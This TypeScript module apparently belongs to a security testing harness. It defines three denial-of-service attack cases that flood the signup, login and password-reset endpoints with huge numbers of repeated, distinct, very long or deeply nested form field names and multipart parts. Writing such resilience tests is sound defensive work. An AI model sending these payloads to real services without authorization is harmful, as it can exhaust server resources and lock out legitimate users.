import { type Attack, buildMultipartBody, formatPartHead, send } from "../attack";

/** Huge numbers of field names in forms that anyone may send: repeated, distinct, or deeply nested. */
export const formNameAttacks: Attack[] = [
  {
    code: "V3",
    name: "one name 125,000 times",
    run: (target) =>
      Promise.all(
        ["/signup", "/login", "/forgot-password"].map((path) =>
          send(target, path, { body: "a&".repeat(125_000) }),
        ),
      ),
  },
  {
    code: "V3",
    name: "30,000 names, and long ones",
    run: (target) =>
      Promise.all(
        [
          Array.from({ length: 30_000 }, (_, i) => `n${i}=`).join("&"),
          `${"n".repeat(200_000)}=1`,
          `${"a.".repeat(100_000)}a=1`,
          "a[0]".repeat(50_000),
          "%".repeat(250_000),
        ].map((body) => send(target, "/signup", { body })),
      ),
  },
  {
    code: "V3",
    name: "3,000 parts in a small form",
    run: async (target) => {
      const parts = Array.from({ length: 3_000 }, () => ({ head: formatPartHead("a") }));
      return [await send(target, "/signup", buildMultipartBody(parts))];
    },
  },
];
